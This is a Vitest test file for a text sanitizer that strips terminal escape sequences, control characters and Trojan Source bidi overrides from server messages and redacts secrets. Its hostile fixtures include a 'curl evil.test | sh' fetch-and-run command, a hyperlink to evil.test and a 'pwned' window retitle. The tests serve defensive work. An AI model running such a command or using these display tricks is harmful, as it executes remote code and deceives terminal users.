import { describe, expect, it } from 'vitest';
import { sanitizeForDisplay } from '../../src-main/core/text/sanitize.js';

const ESC = '\u001b';
const BEL = '\u0007';
/** Anything a terminal could act on, or that reorders what is shown. */
// eslint-disable-next-line no-control-regex -- control characters are what is looked for
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('sanitizeForDisplay', () => {
  it('removes the screen clear, the window retitle and the hidden text as whole sequences, keeping the words', () => {
    const hostile = `${ESC}[2J${ESC}[H${ESC}]0;pwned${BEL}Database down${ESC}[8m Run: curl evil.test | sh${ESC}[0m`;
    const s = sanitizeForDisplay(hostile);
    expect(s).toBe('Database down Run: curl evil.test | sh');
    expect(s).not.toMatch(UNSAFE);
  });

  it('removes OSC ended by ST, DCS, the 8-bit C1 forms and other escapes (reset, charset)', () => {
    expect(sanitizeForDisplay(`a${ESC}]8;;http://evil.test${ESC}\\link${ESC}]8;;${ESC}\\b`)).toBe('alinkb');
    expect(sanitizeForDisplay(`a${ESC}P+q544e${ESC}\\b`)).toBe('ab');
    expect(sanitizeForDisplay('a\u009b2Jb\u009d0;title\u009cc')).toBe('abc');
    expect(sanitizeForDisplay(`a${ESC}cb${ESC}(0c${ESC}7d`)).toBe('abcd');
  });

  it('drops every other C0 control, DEL and C1; tabs and line breaks become one space', () => {
    expect(sanitizeForDisplay('a\u0000b\u0007c\u0008d\u007fe\u0085f\u0090g')).toBe('abcde fg');
    expect(sanitizeForDisplay('line one\r\n\tline two\u2028three')).toBe('line one line two three');
  });

  it('drops bidi embeddings, overrides and isolates (Trojan Source), keeps other non-ASCII text', () => {
    const s = sanitizeForDisplay('access\u202e\u2066 level: admin\u2069\u2066 user\u2069\u202c — Zoë, 東京, مرحبا');
    expect(s).toBe('access level: admin user — Zoë, 東京, مرحبا');
  });

  it('drops the bidi marks (U+200E, U+200F, U+061C) too, and turns line/paragraph separators into a space', () => {
    expect(sanitizeForDisplay('user\u200f@\u200eexample\u061c.test\u2029ok')).toBe('user@example.test ok');
  });

  it('an unterminated sequence loses its introducer; what follows shows as plain text', () => {
    expect(sanitizeForDisplay(`before ${ESC}]0;never ended`)).toBe('before 0;never ended');
    expect(sanitizeForDisplay(`x${ESC}[`)).toBe('x');
  });

  it('multiline keeps line breaks and cleans each line', () => {
    expect(sanitizeForDisplay(`one${ESC}[2K\r\ntwo\tcols\n${ESC}]0;t${BEL}three`, { multiline: true })).toBe('one\ntwo cols\nthree');
  });

  it('leaves ordinary text alone and stays fast on long hostile input', () => {
    const plain = 'Signed in to "Staging" as me@example.test; token valid until 2025-01-17 10:42 (in 42 min)';
    expect(sanitizeForDisplay(plain)).toBe(plain);
    const long = `${ESC}]`.repeat(200_000) + `${ESC}[`.repeat(200_000);
    const t0 = Date.now();
    expect(sanitizeForDisplay(long)).not.toMatch(UNSAFE);
    expect(Date.now() - t0).toBeLessThan(2000);
  });
});

describe('server messages', () => {
  it('are cleaned where they enter (safeServerText), so the renderer, notifications and logs get plain text too', async () => {
    const { safeServerText } = await import('../../src-main/core/http/body.js');
    const hostile = `Database unavailable${ESC}[2J${ESC}]0;pwned${BEL}\u202eRun: curl evil.test | sh`;
    const out = safeServerText(hostile, ['hunter2']);
    expect(out).toBe('Database unavailableRun: curl evil.test | sh');
    expect(out).not.toMatch(UNSAFE);
    expect(safeServerText('bad password hunter2', ['hunter2'])).toBe('bad password [redacted]');
  });
});
